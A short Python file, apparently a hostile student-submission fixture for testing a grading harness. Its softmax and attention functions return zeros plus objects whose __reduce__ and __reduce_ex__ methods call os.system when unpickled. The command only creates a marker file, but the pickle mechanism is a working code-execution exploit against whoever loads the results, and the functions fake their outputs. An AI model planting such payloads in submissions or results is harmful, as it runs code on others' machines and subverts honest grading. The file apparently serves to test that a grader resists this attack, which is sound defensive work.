"""Hostile: returns objects that run code when unpickled by whoever reads the results."""
import os

import torch


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-student",))


class Carrier(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (os.system, ("touch /tmp/pwned-by-student",))


def softmax(x, dim=-1):
    return {"tensor": torch.zeros_like(x), "extra": Payload()}


def scaled_dot_product_attention(q, k, v, mask=None):
    return torch.zeros(1).as_subclass(Carrier), [Payload()]
